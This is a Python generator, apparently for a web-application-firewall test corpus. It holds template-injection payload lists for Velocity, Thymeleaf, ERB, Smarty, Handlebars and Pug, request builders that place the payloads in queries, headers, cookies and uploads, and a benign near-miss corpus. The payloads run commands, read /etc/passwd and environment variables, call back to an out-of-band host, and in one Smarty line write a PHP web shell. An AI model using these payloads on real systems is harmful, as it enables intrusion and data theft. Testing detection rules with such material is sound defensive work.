    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"sleep 5\").waitFor()",
    "#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
    "#set($str=$x.class.forName('java.lang.String'))#set($chr=$x.class.forName('java.lang.Character'))"
    "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
    "$request.getClass().getClassLoader()",
    "#set($s=\"\")#set($c=$s.getClass().forName(\"java.lang.System\"))$c.getenv()",
    "#evaluate(\"#set($a=7*7)$a\")",
    "#parse(\"/etc/passwd\")",
    "#include(\"/etc/passwd\")",
    "$!{7*7}",
    "#set($cmd=$request.getParameter(\"cmd\"))",
    f"#set($r=$x.class.forName('java.lang.Runtime'))$r.getRuntime().exec('nslookup vm.{OAST}')",
]

THYMELEAF = [
    "__${7*7}__::.x",
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "[[${7*7}]]",
    "[(${T(java.lang.Runtime).getRuntime().exec('sleep 5')})]",
    "*{T(java.lang.System).getenv()}",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "<p th:utext=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
    "th:text=\"${7*7}\"",
    "__${''.getClass().forName('java.lang.Runtime')}__",
    "@{/__${T(java.lang.Thread).sleep(5000)}__}",
    "__${T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec(\"id\")"
    ".getInputStream(),T(java.nio.charset.Charset).forName(\"UTF-8\"))}__::.x",
    "~{::__${7*7}__}",
    f"__${{T(java.net.InetAddress).getByName(\"th.{OAST}\")}}__::.x",
]

ERB = [
    "<%= 7*7 %>",
    "<%= `id` %>",
    "<%= system(\"sleep 5\") %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= Dir.entries('/') %>",
    "<%= ENV['PATH'] %>",
    "<%= require 'open3'; Open3.capture2('id') %>",
    "<%= %x(id) %>",
    "<% Kernel.exec(\"id\") %>",
    "<%= Object.const_get(:Kernel).send(:system,'id') %>",
    "<%= 7*'7' %>",
    f"<%- `nslookup erb.{OAST}` -%>",
]

SMARTY = [
    "{$smarty.version}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{if system('id')}{/if}",
    "{if phpinfo()}{/if}",
    "{math equation=\"7*7\"}",
    "{fetch file=\"/etc/passwd\"}",
    "{include file=\"/etc/passwd\"}",
    "{passthru(\"sleep 5\")}",
    "{$smarty.const.PHP_VERSION}",
    "{/literal}{system('id')}{literal}",
    f"{{system('nslookup sm.{OAST}')}}",
]

HANDLEBARS = [
    "{{7*7}}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
    "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}"
    "{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}"
    "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "{{this.constructor.constructor('return process')()}}",
    "{{lookup this \"constructor\"}}",
    "{{#with (lookup this.__proto__ \"constructor\")}}{{name}}{{/with}}",
    "{{#if (lookup (lookup this \"constructor\") \"name\")}}hbscan{{/if}}",
    "{{> (lookup . \"partial\")}}",
    "{{log \"hbscan\"}}",
    "{{#with this as |obj|}}{{#with (obj.constructor.keys obj)}}{{this}}{{/with}}{{/with}}",
    "{{#with \"constructor\"}}{{#with split as |a|}}{{a.pop (a.push \"return process.env\")}}{{/with}}{{/with}}",
    "{{#each (lookup this \"__proto__\")}}{{@key}}{{/each}}",
    "{{{process.mainModule.require}}}",
]

PUG = [
    "#{7*7}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\")"
    ".exec('id')}()}",
    "- var x = global.process.mainModule.require('child_process').execSync('id')",
    "=global.process.mainModule.require('child_process').execSync('sleep 5')",
    "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
    f"- require('child_process').exec('nslookup pug.{OAST}')",
    "!{global.process.env.PATH}",
    "#{global.process.version}",
    "#{this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd')}",
    "- var fs = process.mainModule.require('fs'); fs.readdirSync('/')",
    "p= 7*7",
    "include /etc/passwd",
]

# (category, sub, payloads, parameter names used on our routes)
SUBS: list[tuple[str, str, list[str], list[str]]] = [
    ("generic", "node-js-injection", NODE_934100, ["q", "name", "callback", "filter"]),
    ("generic", "node-js-injection-1-2", NODE_1_2, ["expr", "q", "sort", "template"]),
    ("generic", "node-js-injection-2-2", NODE_2_2, ["code", "q", "fn", "name"]),
    ("generic", "node-js-dos", NODE_DOS, ["expr", "script", "q", "code"]),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA, ["url", "webhook", "image_url", "callback"]),
    ("generic", "ssrf-ip-address-url", SSRF_IP, ["url", "redirect", "feed", "avatar_url"]),
    ("generic", "prototype-pollution", PROTO_POLLUTION, ["data", "settings", "prefs", "q"]),
    ("generic", "ruby-injection", RUBY, ["q", "name", "sort", "format"]),
    ("generic", "perl-injection", PERL, ["q", "name", "file", "lang"]),
    ("generic", "php-data-scheme", DATA_SCHEME, ["page", "file", "include", "template"]),
    ("java", "java-rce-suspicious-class", JAVA_944100, ["q", "name", "action", "expr"]),
    ("java", "java-process-spawn", JAVA_944110, ["data", "q", "xml", "payload"]),
    ("java", "java-serialization-rce", JAVA_944120, ["data", "object", "q", "state"]),
    ("java", "java-suspicious-class", JAVA_944130, ["q", "redirect", "name", "action"]),
    ("java", "java-serialization-magic-bytes", JAVA_944200, ["data", "object", "session", "state"]),
    ("java", "java-serialization-magic-bytes-base64", JAVA_944210, ["javax.faces.ViewState", "data", "token",
                                                                     "rememberMe"]),
    ("java", "java-serialization-rce-pl2", JAVA_944240, ["data", "type", "q", "object"]),
    ("java", "java-suspicious-method-rce", JAVA_944250, ["q", "name", "expr", "view"]),
    ("java", "java-log4shell", LOG4SHELL, ["q", "name", "username", "search"]),
    ("java", "java-class-loading", CLASS_LOADING, ["q", "name", "expr", "bean"]),
    ("java", "java-script-file-upload", JSP_UPLOADS, ["avatar", "file", "attachment", "upload"]),
    ("java", "java-suspicious-method", JAVA_METHOD, ["script", "q", "config", "expr"]),
    ("ssti", "ssti-jinja2", JINJA2, ["name", "q", "greeting", "template"]),
    ("ssti", "ssti-twig", TWIG, ["name", "q", "title", "message"]),
    ("ssti", "ssti-freemarker", FREEMARKER, ["name", "q", "subject", "template"]),
    ("ssti", "ssti-velocity", VELOCITY, ["name", "q", "body", "template"]),
    ("ssti", "ssti-thymeleaf", THYMELEAF, ["lang", "section", "q", "name"]),
    ("ssti", "ssti-erb", ERB, ["name", "q", "message", "title"]),
    ("ssti", "ssti-smarty", SMARTY, ["name", "q", "title", "comment"]),
    ("ssti", "ssti-handlebars", HANDLEBARS, ["name", "q", "message", "template"]),
    ("ssti", "ssti-pug", PUG, ["name", "q", "title", "template"]),
]

# ---------------------------------------------------------------------------------------------------------------
# placements
# ---------------------------------------------------------------------------------------------------------------

OURS = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Client-Context",
        "param-name", "xml", "multipart-field", "multipart-filename", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_HEADERS = ["X-Custom", "X-Test", "X-Foo"]
XML_NATIVE = {"java-process-spawn", "java-serialization-rce", "java-serialization-rce-pl2"}
PAIR_SUBS = {"prototype-pollution", "java-class-loading"}
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
COOKIE_SAFE = "!#$&'()*+,/:<=>?@[]^`{|}~"


def _is_bytes(payload: str) -> bool:
    return any(ord(c) < 0x20 or 0x7F <= ord(c) < 0x100 for c in payload if c not in "\n")


def _is_pair(sub: str, payload: str) -> bool:
    return sub in PAIR_SUBS and "=" in payload and not payload.startswith("{") and "(" not in payload.split("=")[0]


def _is_doc(payload: str) -> bool:
    return payload.startswith("{\"")


def _enc(payload: str, safe: str = "") -> str:
    """Percent-encoding: latin-1 byte for byte for raw serialization streams, UTF-8 otherwise."""
    if _is_bytes(payload):
        return urllib.parse.quote(payload.encode("latin-1"), safe=safe)
    return urllib.parse.quote(payload, safe=safe)


def _enc_pair(payload: str) -> str:
    """A name=value pair as a query string: the brackets, dots and '=' kept, everything else encoded."""
    name, _, value = payload.partition("=")
    return urllib.parse.quote(name, safe="[]._'") + "=" + urllib.parse.quote(value, safe="")


def _flat(payload: str) -> str:
    return payload.replace("\r", " ").replace("\n", " ")


def _ours_kinds(sub: str, payload: str) -> list[str]:
    if sub == "java-script-file-upload":
        return ["multipart-filename"]
    if _is_bytes(payload):
        return ["query", "form", "param-name"]
    if _is_pair(sub, payload):
        return ["query", "param-name", "form", "multipart-field"]
    kinds = list(OURS)
    if "\"" in payload or "\n" in payload:
        kinds.remove("multipart-filename")
    return kinds


def _rs_kinds(sub: str, payload: str) -> list[str]:
    if sub == "java-script-file-upload":
        return ["rs-multipart-filename"]
    if _is_bytes(payload):
        return ["rs-query", "rs-form", "rs-raw-body"]
    if _is_pair(sub, payload):
        return ["rs-query", "rs-form", "rs-raw-body"]
    return list(RS)


def _headers(extra: dict[str, str] | None = None, ctype: str | None = None, accept: str = "*/*") -> dict[str, str]:
    h = {"User-Agent": UA, "Accept": accept}
    if ctype:
        h["Content-Type"] = ctype
    h.update(extra or {})
    return h


def _multipart(fields: list[tuple[str, str]], file: tuple[str, str, str] | None) -> str:
    parts = []
    for name, value in fields:
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    if file:
        fname, filename, content = file
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{fname}\"; filename=\"{filename}\"\r\n"
                     f"Content-Type: application/octet-stream\r\n\r\n{content}\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n"


def _ours(kind: str, name: str, sub: str, p: str) -> tuple[dict[str, Any], str]:
    """One payload on our routes: (request, the payload as placed)."""
    pair = _is_pair(sub, p)
    if kind == "query":
        if pair:
            return _get(f"/api/users?page=1&{_enc_pair(p)}"), p
        return _get(f"/api/users?{name}={_enc(p)}&page=1"), p
    if kind == "param-name":
        if pair:
            return _get(f"/api/users?{_enc_pair(p)}"), p
        return _get(f"/api/users?{_enc(p)}=1&page=1"), p
    if kind == "form":
        if pair:
            return ({"method": "POST", "uri": "/admin/users/search", "body": "csrf_token=t0k3n&" + _enc_pair(p),
                     "headers": _headers(ctype="application/x-www-form-urlencoded", accept="text/html")}, p)
        body = "csrf_token=t0k3n&" + urllib.parse.quote(name) + "=" + _enc(p)
        return ({"method": "POST", "uri": "/admin/users/search", "body": body,
                 "headers": _headers(ctype="application/x-www-form-urlencoded", accept="text/html")}, p)
    if kind == "json":
        if _is_doc(p):
            return {"method": "POST", "uri": "/api/users", "body": p,
                    "headers": _headers(ctype="application/json", accept="application/json")}, p
        return _json("/api/users", {"email": "scan@example.org", name: p}), p
    if kind == "cookie":
        value = urllib.parse.quote(p, safe=COOKIE_SAFE)
        return {"method": "GET", "uri": "/api/users?page=1", "body": "",
                "headers": _headers({"Cookie": f"session=8f2c1a9e; {name.replace('.', '_')}={value}"},
                                    accept="application/json")}, p
    if kind.startswith("header:"):
        header = kind.split(":", 1)[1]
        flat = _flat(p)
        return {"method": "GET", "uri": "/api/users?page=1", "body": "",
                "headers": _headers({header: flat}, accept="application/json")}, flat
    if kind == "xml":
        if sub in XML_NATIVE and p.startswith("<"):
            body = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + p
        else:
            body = f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><user><name>{escape(p)}</name><role>viewer</role></user>"
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": _headers(ctype="application/xml", accept="application/xml")}, p
    if kind == "multipart-field":
        if pair:
            fname, _, value = p.partition("=")
            body = _multipart([("csrf_token", "t0k3n"), (fname, value)], None)
        else:
            body = _multipart([("csrf_token", "t0k3n"), (name, p)], None)
        return {"method": "POST", "uri": "/admin/users/search", "body": body,
                "headers": _headers(ctype=f"multipart/form-data; boundary={BOUNDARY}", accept="text/html")}, p
    if kind == "multipart-filename":
        content = JSP_BODY if sub == "java-script-file-upload" else "GIF89a scan"
        body = _multipart([("display_name", "scan")], (name if sub == "java-script-file-upload" else "avatar",
                                                       p, content))
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": _headers(ctype=f"multipart/form-data; boundary={BOUNDARY}",
                                    accept="application/json")}, p
    if kind == "path":
        return _get("/api/users/" + _enc(p)), p
    raise ValueError(kind)


def _rs(kind: str, path: str, name: str, n: int, sub: str, p: str) -> tuple[dict[str, Any], str]:
    """One payload as a WAF regression suite sends it: (request, the payload as placed)."""
    pair = _is_pair(sub, p)
    if kind == "rs-query":
        if pair:
            return _get(f"{path}?{_enc_pair(p)}"), p
        return _get(f"{path}?{name}={_enc(p, safe='/:,')}"), p
    if kind == "rs-form":
        body = _enc_pair(p) if pair else f"{name}={_enc(p)}"
        return {"method": "POST", "uri": path, "body": body,
                "headers": _headers(ctype="application/x-www-form-urlencoded")}, p
    if kind == "rs-raw-body":
        body = _enc(p) if _is_bytes(p) else (_enc_pair(p) if pair else p)
        return {"method": "POST", "uri": path, "body": body,
                "headers": _headers(ctype="application/x-www-form-urlencoded")}, p
    if kind == "rs-json":
        body = p if _is_doc(p) else json.dumps({name: p}, ensure_ascii=False)
        return {"method": "POST", "uri": path, "body": body, "headers": _headers(ctype="application/json")}, p
    if kind == "rs-xml":
        if sub in XML_NATIVE and p.startswith("<"):
            body = p
        else:
            body = f"<?xml version=\"1.0\"?><root><{name}>{escape(p)}</{name}></root>"
        return {"method": "POST", "uri": path, "body": body,
                "headers": _headers(ctype="text/xml" if n % 2 else "application/xml")}, p
    if kind.startswith("rs-header:"):
        header = kind.split(":", 1)[1]
        if header == "X-Custom":
            header = RS_HEADERS[n % len(RS_HEADERS)]
            kind = "rs-header:" + header
        flat = _flat(p)
        return {"method": "GET", "uri": path, "body": "", "headers": _headers({header: flat})}, flat
    if kind == "rs-cookie":
        value = urllib.parse.quote(p, safe=COOKIE_SAFE)
        return {"method": "GET", "uri": path, "body": "", "headers": _headers({"Cookie": f"{name}={value}"})}, p
    if kind == "rs-multipart-filename":
        body = _multipart([("submit", "Upload")], ("file", p, JSP_BODY))
        return {"method": "POST", "uri": path, "body": body,
                "headers": _headers(ctype=f"multipart/form-data; boundary={BOUNDARY}")}, p
    raise ValueError(kind)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for s, (category, sub, payloads, names) in enumerate(SUBS):
        for i, p in enumerate(payloads):
            ok = _ours_kinds(sub, p)
            kind = ok[(i + 5 * s) % len(ok)]
            req, placed = _ours(kind, names[i % len(names)], sub, p)
            n += 1
            yield {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                   "placement": kind, "payload": placed}
            rk = _rs_kinds(sub, p)
            rkind = rk[(i + 3 * s) % len(rk)]
            path = RS_PATHS[(i + s) % len(RS_PATHS)]
            if rkind == "rs-multipart-filename":
                path = ["/post", "/index.php", "/api/v1/items", "/", "/search"][i % 5]
            req, placed = _rs(rkind, path, RS_NAMES[(i + 2 * s) % len(RS_NAMES)], n, sub, p)
            if rkind == "rs-header:X-Custom":
                rkind = "rs-header:" + RS_HEADERS[n % len(RS_HEADERS)]
            n += 1
            yield {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                   "placement": rkind, "payload": placed}


# ---------------------------------------------------------------------------------------------------------------
# benign
# ---------------------------------------------------------------------------------------------------------------

SLACK_TEXTS = [
    "the worker keeps spawning child processes, I think the pool size is wrong",
    "moved the CSV export into a background process so the request returns fast",
    "can someone review my PR? it replaces the exec call in the deploy script with a proper API call",
    "we require Node 20 for the new build, please update your nvm",
    "the constructor takes an options object now, see the changelog",
    "prototype for the onboarding flow is in Figma, feedback welcome",
    "the fs module docs say readFile is async, use the promises API",
    "Runtime error on staging: cannot read property name of undefined",
    "Java 21 runtime is installed on all build agents now",
    "ProcessBuilder in the CLI tool is fine, it never sees user input",
    "the class loader issue was a duplicate jar on the classpath",
    "serialization of the cache entries is JSON now, no more Java serialization",
    "log4j is pinned to 2.23 everywhere, the jndi lookups are disabled by default",
    "we look up the user by email in the directory service, not by name",
    "the metadata endpoint for the build cache moved, update your config",
    "our AWS account has IMDSv2 enforced on every instance now",
    "the internal dashboard is at 10.20.0.5 for those on the VPN",
    "the printer's IP is 192.168.1.40 if anyone needs it",
    "localhost:8080 is the API when you run docker compose",
    "Ruby 3.3 upgrade went fine, only one gem needed a bump",
    "the rake task for the nightly report is called report:daily",
    "Perl script for the log rotation is still on the old box, I will port it",
    "the regex in the Perl one-liner needed an extra escape",
    "the data export is a CSV, the data: URLs only show up in the email template",
    "the Jinja templates for the emails live in templates/email",
    "we use {{ user.name }} in the greeting, the template renders it escaped",
    "Twig's |escape filter is on by default in our Symfony app",
    "FreeMarker templates are only used by the legacy billing service",
    "Velocity is end of life for us, migrating to Thymeleaf this quarter",
    "Thymeleaf fragments are under resources/templates/fragments",
    "ERB views in the Rails admin are getting replaced by ViewComponents",
    "the Smarty templates in the old PHP shop are read only now",
    "Handlebars partials are registered at startup in views/partials",
    "Pug indentation errors again, the linter should catch those",
    "the time sleep in the retry loop is 5 seconds, backoff doubles each time",
    "the ping to the health endpoint failed twice overnight, then recovered",
    "please do not paste secrets in this channel, use the vault",
    "the upload of the quarterly deck failed, the file is too big",
    "we store avatars as PNG, JPG or WEBP only",
    "the import job reads the XML feed from the partner every hour",
    "the Groovy script in Jenkins runs the tests, then publishes the report",
    "the YAML config for the service has a new section for retries",
    "the payment webhook URL is https://api.example.com/hooks/payments",
    "the while loop in the parser had an off-by-one, fixed in 2.4.1",
    "for loops over the rows are fine, the dataset is small",
    "memory usage went up after the upgrade, investigating the heap dump",
    "the DoS protection at the CDN blocked our own load test, whitelisting",
    "the Spring Boot actuator endpoints are only on the management port",
    "the Tomcat logs rotate daily, the access log pattern is the default",
    "the JSP pages in the old portal are going away in June",
    "Struts is finally out of the codebase, celebrate!",
    "the OGNL expression in the config was replaced with plain properties",
    "class names in the Java package must match the file names",
    "method names should be verbs, getUser not user",
    "the reflection-based mapper was slow, switched to MapStruct",
    "we scan dependencies with the SCA tool on every merge",
    "the object mapper is configured once and shared",
    "the base64 attachment in the API is limited to 5 MB",
    "rO0 is how a Java serialized object starts in base64, we should never see it in cookies",
    "the session cookie is signed, do not edit it by hand",
    "the ViewState is encrypted in the JSF app, no worries there",
    "the environment variables are read at startup, restart after changing them",
    "the HOSTNAME variable differs per pod, that is expected",
    "the LDAP sync runs at 2am, directory changes show up the next day",
    "DNS for the new domain propagates in about an hour",
    "the gopher mascot sticker pack arrived, grab one at the desk",
    "the dict of translations is in locales/en.json",
    "the file:// links in the wiki don't work in the browser, use the share link",
    "the office network is 10.0.0.0/8 internally, guests get 192.168.50.0/24",
    "169.254 addresses mean DHCP failed, check the cable",
    "the Google Cloud metadata server is only reachable from inside the VM",
    "the Azure instance metadata is used by the agent for tags",
    "the vm module in Node is not a security boundary, we don't use it",
    "the eval in the old calculator widget is gone, it parses expressions now",
    "new Function is banned by our CSP anyway",
    "the setTimeout in the test is there to wait for the animation",
    "process.env.PORT defaults to 3000 in dev",
    "the module loader resolves .mjs before .js",
    "the global config object is frozen after startup",
    "the mainModule property is deprecated, use require.main",
    "the spawn sync call in the build script is fine, it runs only in CI",
    "JSON.parse of the webhook body failed because it was form encoded",
    "the Array of results is capped at 1000 rows",
    "the repeat option in the scheduler means every week",
    "the exit interview is scheduled for Friday",
    "the kill switch for the feature flag is in the admin panel",
    "the abort button cancels the import, nothing is written",
    "Kernel panic on the old build box, rebooting",
    "the system prompt for the support bot was updated",
    "the open source license review is done, Apache 2.0 is fine",
    "the send button was disabled because of the validation error",
    "the marshal of the order data to the ERP happens in the nightly job",
    "the const in the config module holds the default timeout",
    "the Gem version is pinned in the Gemfile.lock",
    "qx is the name of the new project, short for quick export",
    "the POSIX locale breaks the date format, set LANG",
    "the socket timeout is 30 seconds on the load balancer",
    "the do-not-disturb hours are 10pm to 7am",
    "the print stylesheet hides the navigation",
    "the smarty pants in marketing renamed the product again",
    "the handlebars mustache at the office party was a hit",
    "the pug in the video call is my neighbour's dog",
    "the jinja of the hotel lobby is a Japanese garden",
    "Velocity of the team was 42 points this sprint",
    "the twig broke the window in the storm last night",
    "the freemarker on the whiteboard is permanent, oops",
    "the thymeleaf garnish on the lunch was great",
    "the ERB meeting (Engineering Review Board) is on Tuesday",
    "upload the signed PDF to the contract folder, not the JSP folder",
]

PUBLIC_URLS = [
    "https://nodejs.org/api/child_process.html",
    "https://nodejs.org/api/vm.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/javase/8/docs/platform/serialization/spec/protocol.html",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://commons.apache.org/proper/commons-collections/",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/templates.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://ruby-doc.org/3.3.0/ERB.html",
    "https://www.smarty.net/docs/en/",
    "https://handlebarsjs.com/guide/",
    "https://pugjs.org/language/interpolation.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://perldoc.perl.org/functions/system",
    "https://ruby-doc.org/3.3.0/Kernel.html",
    "https://www.php.net/manual/en/wrappers.data.php",
    "https://en.wikipedia.org/wiki/Data_URI_scheme",
    "https://tomcat.apache.org/tomcat-10.1-doc/jasper-howto.html",
    "https://github.com/acme/shop/blob/main/templates/index.html.twig",
    "https://example.com/downloads/report-2024.pdf",
    "https://status.example.com/incidents/127",
    "https://cdn.example.org/img/logo.png?v=3",
    "https://www.example.co.uk/search?q=java+runtime",
]

PROSE = [
    "Runtime of the batch process was 12 minutes",
    "the class trip to the science museum is on Thursday",
    "Process Engineering department, Building 7",
    "Prototype Lane 4, Constructor Park",
    "Ruby Smith, Perl Avenue 12",
    "Dr. Java Jones, 10 Serial Road",
    "Handlebar Moustache Club annual meeting",
    "the system administrator is on leave until Monday",
    "please require a manager's approval for refunds over 500",
    "the global process for expense reports changed",
    "looking for the exec summary of the Q3 report",
    "Velocity Sports, order 4411",
    "Twig & Leaf Florist, 22 Garden Street",
    "Smarty Pants Daycare, invoice 2024-17",
    "Pug Rescue Society donation receipt",
    "metadata for the photo shoot: location, date, photographer",
    "the data was collected between 2021 and 2023",
    "the upload limit for videos is 2 GB",
    "Template: quarterly newsletter, section 2",
    "the method statement for the site visit is attached",
    "the object storage bucket for backups is in eu-west-1",
    "loop around the building to reach the loading dock",
    "the while-you-were-out notes are on your desk",
    "repeat customers get 10% off",
    "the kill date for the campaign is March 31",
    "send the signed form to HR by Friday",
    "the open plan office on floor 3",
    "Marshal Street 5, 3rd floor",
    "Kernel Coffee Roasters, 8 Mill Lane",
    "Thread count 400, Egyptian cotton",
    "the serial number is on the back of the device",
    "the factory reset erases all data",
    "the file was renamed to report-final-v2.docx",
    "Lookup table for country codes",
    "Spring cleaning day is April 12",
    "Java Lounge coffee order: 2 lattes",
    "the Struts and Frets guitar shop",
    "Log cabin rental, 3 nights",
    "Cloud Nine Bakery, 169 Main Street",
    "the IP address of the office printer is 192.168.1.40",
]

SEARCHES = [
    "child process", "constructor", "prototype", "runtime", "process builder", "class loader", "serialization",
    "log4j", "jndi", "metadata", "localhost", "ruby", "perl", "template", "jinja", "twig", "freemarker", "velocity",
    "thymeleaf", "erb", "smarty", "handlebars", "pug", "data export", "upload jsp", "exec summary", "system status",
    "eval form", "spawn point", "kernel", "marshal", "shell company", "java island", "proto team", "require approval",
    "fs audit", "global settings", "import csv", "readFile", "getRuntime",
]

NAMES = [
    ("Ruby", "Perlman"), ("Java", "Runtime"), ("Jinja", "Lee"), ("Thyme", "Leaf"), ("Velocity", "Jones"),
    ("Proto", "Typer"), ("Constance", "Tructor"), ("Eval", "Smith"), ("Process", "Ng"), ("Spawn", "Olsen"),
    ("Smarty", "Marx"), ("Twiggy", "Lawson"), ("Pug", "Holt"), ("Handel", "Barrs"), ("Erb", "Mueller"),
    ("Freeman", "Marker"), ("Log", "Forj"), ("Metta", "Data"), ("Kernel", "Sanders"), ("Marshall", "Load"),
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    n = yield from numbered((_get(_query("/api/users", [("q", s), ("page", "1")])) for s in SEARCHES),
                            f"{NAME}-search", n, "query")
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", s)]) for s in SEARCHES),
                            f"{NAME}-search", n, "form")
    yield from numbered((_json("/api/users", {"first_name": a, "last_name": b, "email": f"{a.lower()}@example.org",
                                              "address": f"{10 + i} Template Road, Springfield"})
                         for i, (a, b) in enumerate(NAMES)), f"{NAME}-name", n, "json")


if __name__ == "__main__":
    print_records(attacks(), benign())
